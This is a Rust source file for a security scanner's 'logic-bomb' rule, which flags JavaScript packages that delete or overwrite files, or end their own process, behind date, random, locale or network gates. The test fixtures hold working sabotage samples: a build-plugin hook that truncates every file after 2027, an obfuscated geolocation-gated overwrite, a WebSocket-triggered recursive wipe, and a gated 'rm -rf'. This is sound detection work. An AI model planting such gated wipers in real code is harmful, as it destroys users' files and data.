//! `code/logic-bomb`.

use super::{chain, finding};
use crate::CodeFinding;
use crate::classify::FileKind;
use crate::signal::{FileFacts, Kind, PackageFacts, Signal};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Mass deletion or corruption of files held back by a date, a random draw, a locale or a country check.
    ///
    /// ## What it detects
    /// In one JavaScript module (not a bundle): a mass modification — a recursive delete (`fs.rm(…, { recursive:
    /// true })`, `rimraf`, `del`, `rm -rf` spawned), or a directory walk (`readdir`) that deletes what it lists or
    /// overwrites it with a short constant (`fs.writeFileSync(f, '')`) — next to a gate that decides when it
    /// happens: the current date compared with a fixed date, `Math.random()` compared with a threshold, the clock's
    /// hour, a time-zone, locale or country read, or an IP-geolocation lookup (in this module or one it requires or
    /// is required by); for the walk that overwrites or deletes every file, also a network answer (the walk runs in
    /// a network callback — an HTTP response, or the `message`/`data` listener of a WebSocket or socket the module
    /// opened — or a function one calls). Wherever the code runs (at load, at install, or in a plugin
    /// hook a build tool calls), the gate raises, never lowers: critical for a date, locale or country gate, and
    /// for a walk overwriting files with a constant behind any gate; high for a recursive delete behind only a
    /// random draw or the hour. Also the time bomb with no file access: one function compares the current date
    /// with a fixed date *and* draws `Math.random()` against a threshold, in a module that ends its own process
    /// (`process.exit`, `process.abort`, `process.kill(process.pid)`): critical.
    ///
    /// ## Why it matters
    /// Sabotage is built to stay dormant while it is reviewed and tested: the 2025 React/Vue/Vite plugins that
    /// wiped project files after a hard-coded date and then on a share of runs, node-ipc 10.1.1 (CVE-2022-23812)
    /// overwriting every file with a heart after a random delay and a geolocation answer; the database-helper
    /// packages Socket described in November 2025 that, after dates in 2027-2028, killed the process or corrupted
    /// writes on a fifth of calls. With no data leaving the machine, flow analysis sees nothing; the gate in
    /// front of the destruction is the tell.
    ///
    /// ## Example
    /// `if (Date.now() > Date.UTC(2027, 5, 1) && Math.random() < 0.35) walk(root, (f) => fs.writeFileSync(f, ''))`
    /// in a Vite plugin's `configResolved` hook.
    ///
    /// ## Known false positives
    /// rimraf-style tools and build cleaners delete trees on request, with no date, chance or locale deciding:
    /// not reported. Caches that evict on a random share of runs (`if (Math.random() < 0.01) prune(dir)`) delete
    /// by age inside their own folder, usually without a recursive delete of the tree: if one does, it is high, and
    /// a reviewer sees the cache folder in the evidence. Installers deleting a temporary tree in a download
    /// callback are not reported (a network answer gates only the walk-and-overwrite, and only when that walk
    /// runs in the network callback or a function it calls): a binary downloader that streams its download to a
    /// cache folder in a `fetch(…).then(…)` callback and then, back in the calling function, lists the cache
    /// and unlinks the oldest entries (next's `download-swc.js`) is cache eviction, not reported. Bundles (many modules in one
    /// file) are skipped. A CLI that exits, warns after an end-of-life date and samples telemetry by chance in
    /// separate functions is not a time bomb: the date and the draw must decide together, in one function.
    pub static LOGIC_BOMB = { id: "code/logic-bomb", severity: Severity::Critical };
}

/// One finding per module with a gated mass modification.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    p.files
        .iter()
        .filter(|f| f.kind == FileKind::JavaScript && !super::is_bundle(f))
        .filter_map(|f| module(p, f).or_else(|| time_bomb(p, f)))
        .collect()
}

/// A fixed date and a random draw deciding in one function, in a module that ends its own
/// process: the 2025 time-delayed sabotage packages (kill or corrupt on a share of calls
/// after a date), which touch no file and no network.
fn time_bomb(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
    let exit = f.of(Kind::ProcessExit).next()?;
    let dated = f.of(Kind::TimeGate).find(|d| {
        d.detail.contains("fixed date") && f.of(Kind::RandomGate).any(|r| r.func == d.func)
    })?;
    Some(finding(
        &LOGIC_BOMB,
        LOGIC_BOMB.default_severity,
        f,
        dated,
        Locality::Function,
        format!(
            "a fixed date and a random draw decide together (`{}`), in a module that ends its own process (`{}`, line {})",
            dated.detail, exit.detail, exit.line
        ),
        chain(p, f, dated, &[Kind::RandomGate, Kind::ProcessExit]),
    ))
}

fn module(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
    // The gate sits in this module or one it requires or is required by (a date check in
    // `index.js` calling `require('./clean')(root)`).
    let near: Vec<&FileFacts> = std::iter::once(f)
        .chain(p.files.iter().filter(|o| {
            o.path != f.path
                && o.kind == FileKind::JavaScript
                && !super::is_bundle(o)
                && (f.deps.contains(&o.path) || o.deps.contains(&f.path))
        }))
        .collect();
    let of = |k: Kind| near.iter().flat_map(move |o| o.of(k));
    let dated = of(Kind::TimeGate).find(|s| s.detail.contains("fixed date"));
    let targeted = of(Kind::LocaleGate).chain(of(Kind::GeoLookup)).next();
    let chance = of(Kind::RandomGate)
        .chain(of(Kind::TimeGate).filter(|s| !s.detail.contains("fixed date")))
        .next();
    let walks = |s: &Signal| {
        f.signals
            .iter()
            .any(|o| o.func == s.func && o.kind == Kind::FsRead && o.detail.contains("readdir"))
    };
    let corrupt = f
        .of(Kind::ConstantOverwrite)
        .chain(f.of(Kind::DestructiveFs))
        .find(|s| walks(s));
    // A network answer deciding a walk that overwrites every file (the geolocation reply of
    // node-ipc) gates only that corruption, and only when the walk itself runs in the network
    // callback (or a function it calls): installers delete temporary trees in download
    // callbacks all the time, and a downloader that writes its download in a callback and
    // then prunes old entries of its cache folder in the calling function is not gated by
    // the answer.
    let remote = corrupt.and_then(|c| f.of(Kind::RemoteGate).find(|r| r.func == c.func));
    let gate = dated.or(targeted).or(chance).or(remote)?;
    let recursive = f.of(Kind::DestructiveFs).find(|s| {
        s.detail.ends_with(" recursive")
            || s.detail.starts_with("rimraf")
            || s.detail.starts_with("del")
            || s.detail.starts_with("destructive command")
            || s.detail.starts_with("shell recursive delete")
    });
    let hit = corrupt.or(recursive)?;
    if dated.is_none() && targeted.is_none() && chance.is_none() && corrupt.is_none() {
        return None;
    }
    let strong = dated.is_some() || targeted.is_some() || corrupt.is_some();
    let severity = if strong {
        LOGIC_BOMB.default_severity
    } else {
        Severity::High
    };
    let what = if corrupt.is_some() {
        "walks a folder tree deleting or overwriting every file"
    } else {
        "deletes a folder tree"
    };
    let why = if dated.is_some() {
        "the current date against a fixed date"
    } else if targeted.is_some() {
        "the locale, time zone or country"
    } else if gate.kind == Kind::RandomGate {
        "a random draw"
    } else if gate.kind == Kind::RemoteGate {
        "a network answer"
    } else {
        "the time of day"
    };
    Some(finding(
        &LOGIC_BOMB,
        severity,
        f,
        hit,
        Locality::Function,
        format!("{what}, gated on {why} (`{}`)", gate.detail),
        chain(
            p,
            f,
            hit,
            &[
                Kind::TimeGate,
                Kind::RandomGate,
                Kind::LocaleGate,
                Kind::GeoLookup,
            ],
        ),
    ))
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{PJ, hits, scan, severity};
    use diligence_finding::Severity;

    const PLUGIN: &str = "import fs from 'node:fs';\nimport path from 'node:path';\nfunction stamp() {\n  const d = new Date();\n  const epoch = Date.UTC(2027, 5, 1);\n  return { late: d.getTime() > epoch, roll: Math.random() };\n}\nfunction clear(root) {\n  const walk = (p) => {\n    for (const e of fs.readdirSync(p, { withFileTypes: true })) {\n      const full = path.join(p, e.name);\n      if (e.isDirectory()) walk(full); else fs.writeFileSync(full, '');\n    }\n  };\n  walk(root);\n}\nexport default function plugin() {\n  return { name: 'p', configResolved(c) { const s = stamp(); if (s.late && s.roll < 0.35) clear(c.root); } };\n}\n";

    /// A build plugin's hook: date and chance gate a walk truncating every project file.
    #[test]
    fn positive_time_bomb_in_plugin_hook() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"p","version":"1.0.0","type":"module","main":"index.js"}"#,
            ),
            ("index.js", PLUGIN),
        ]);
        assert_eq!(
            hits(&s, "code/logic-bomb"),
            vec![("index.js".to_string(), 12)]
        );
        assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::Critical));
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A random share of runs deletes the tree: high.
    #[test]
    fn positive_random_recursive_delete() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nexports.tick = (dir) => {\n  if (Math.random() < 0.1) fs.rmSync(dir, { recursive: true, force: true });\n};\n",
            ),
        ]);
        assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::High));
    }

    /// A geolocation answer decides a walk overwriting every file with a constant; the walker is
    /// declared after the callback that calls it.
    #[test]
    fn positive_network_answer_gates_overwrite() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const https = require('https');\nconst fs = require('fs');\nconst path = require('path');\nhttps.get(Buffer.from('aHR0cHM6Ly9nZW8uZXhhbXBsZS5jb20v', 'base64').toString(), (r) => {\n  r.on('data', (d) => { if (String(d).includes('XX')) h('./'); });\n});\nfunction h(n) {\n  for (const e of fs.readdirSync(n)) fs.writeFile(path.join(n, e), '\\u2764', () => {});\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/logic-bomb"),
            vec![("index.js".to_string(), 8)]
        );
        assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::Critical));
    }

    /// A WebSocket "sync" channel whose server message deletes everything in the project folder
    /// (xlsx-to-json-lh, 2025: a remote-triggered wiper).
    #[test]
    fn positive_websocket_message_wipes_project() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const WebSocket = require('ws');\nconst fs = require('fs');\nconst path = require('path');\nlet ws;\ntry { ws = new WebSocket('wss://sync.example.com/v1'); } catch (e) {}\nws.on('message', (m) => {\n  const msg = JSON.parse(String(m));\n  if (msg.t === '\\u0072eset') for (const e of fs.readdirSync(process.cwd())) fs.rmSync(path.join(process.cwd(), e), { recursive: true, force: true });\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/logic-bomb"),
            vec![("index.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A live-reload client writes the file the dev server pushes over its WebSocket, and a
    /// socket client deletes its own cache folder when it closes.
    #[test]
    fn negative_websocket_message_writes_one_file() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const WebSocket = require('ws');\nconst fs = require('fs');\nconst path = require('path');\nconst ws = new WebSocket('ws://localhost:35729');\nws.on('message', (m) => {\n  const msg = JSON.parse(String(m));\n  if (msg.type === 'update') fs.writeFileSync(path.join(__dirname, 'cache', msg.name), msg.body);\n});\nws.on('close', () => fs.rmSync(path.join(__dirname, 'cache'), { recursive: true, force: true }));\n",
            ),
        ]);
        assert!(hits(&s, "code/logic-bomb").is_empty(), "{:?}", s.findings);
    }

    /// A prebuilt-binary installer removes its temporary folder in the download callback.
    #[test]
    fn negative_download_callback_cleans_temp() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "install.js",
                "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst tmp = fs.mkdtempSync(os.tmpdir() + '/x');\nhttps.get('https://example.com/bin.tgz', (r) => {\n  r.on('end', () => fs.rmSync(tmp, { recursive: true, force: true }));\n});\n",
            ),
        ]);
        assert!(hits(&s, "code/logic-bomb").is_empty());
    }

    /// A binary downloader (next's `download-swc.js`): the download is written in the `fetch`
    /// callback, then the calling function lists its cache folder and unlinks the oldest entries.
    #[test]
    fn negative_downloader_prunes_its_cache() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nasync function fetchBinary(name) {\n  const dir = path.join(os.homedir(), '.cache', 'p-bin');\n  const tmp = path.join(dir, name + '.temp');\n  await fetch('https://registry.npmjs.org/p-bin/-/' + name).then((res) => {\n    const out = fs.createWriteStream(tmp);\n    return res.body.pipeTo(new WritableStream({ write(c) { return new Promise((r) => out.write(c, () => r())); } }));\n  });\n  await fs.promises.rename(tmp, path.join(dir, name));\n  const files = await fs.promises.readdir(dir);\n  if (files.length > 8) {\n    files.sort();\n    for (let i = 0; i < files.length - 8; i++) await fs.promises.unlink(path.join(dir, files[i])).catch(() => {});\n  }\n}\nmodule.exports = fetchBinary;\n",
            ),
        ]);
        assert!(hits(&s, "code/logic-bomb").is_empty(), "{:?}", s.findings);
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// The gate in the entry module, the shell delete in the module it requires.
    #[test]
    fn positive_gate_in_requiring_module_and_shell_delete() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const clean = require('./clean');\nexports.init = (root) => {\n  if (new Date().getFullYear() >= 2027) clean(root);\n};\n",
            ),
            (
                "clean.js",
                "const { execSync } = require('child_process');\nmodule.exports = (root) => execSync(process.platform === 'win32' ? `rd /s /q \"${root}\"` : 'rm -rf ' + root);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/logic-bomb"),
            vec![("clean.js".to_string(), 2)]
        );
        assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::Critical));
    }

    /// rimraf-style: a recursive delete and a walk deleting entries, with no gate.
    #[test]
    fn negative_rimraf_style_without_gate() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nfunction rm(d) {\n  for (const n of fs.readdirSync(d)) fs.unlinkSync(path.join(d, n));\n  fs.rmSync(d, { recursive: true, force: true });\n}\nmodule.exports = rm;\n",
            ),
        ]);
        assert!(hits(&s, "code/logic-bomb").is_empty());
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// A pool helper's health check: after a fixed date, a random share of calls exits the process.
    #[test]
    fn positive_date_and_chance_end_the_process() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const START = Date.UTC(2027, 7, 8);\nfunction stale() {\n  if (Date.now() < START) return false;\n  return Math.random() < 0.2;\n}\nexports.check = (q) => {\n  if (stale()) setImmediate(() => process.exit(0));\n  return q;\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/logic-bomb"),
            vec![("index.js".to_string(), 3)]
        );
        assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::Critical));
    }

    /// A CLI: an end-of-life warning after a date, telemetry sampled by chance elsewhere, and
    /// an exit code: the date and the draw never decide together.
    #[test]
    fn negative_cli_date_warning_and_sampling_apart() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const EOL = Date.UTC(2027, 0, 1);\nfunction warn() {\n  if (Date.now() > EOL) console.warn('unsupported');\n}\nfunction sample() {\n  return Math.random() < 0.01;\n}\nexports.main = (ok) => {\n  warn();\n  if (sample()) console.log('t');\n  if (!ok) process.exit(1);\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/logic-bomb").is_empty());
    }

    /// A copy tool writes what it reads (not a constant), and samples telemetry by chance.
    #[test]
    fn negative_copy_with_sampling() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nfunction copy(a, b) {\n  for (const n of fs.readdirSync(a)) fs.writeFileSync(path.join(b, n), fs.readFileSync(path.join(a, n)));\n  if (Math.random() < 0.01) console.log('copied');\n}\nmodule.exports = copy;\n",
            ),
        ]);
        assert!(hits(&s, "code/logic-bomb").is_empty());
    }
}
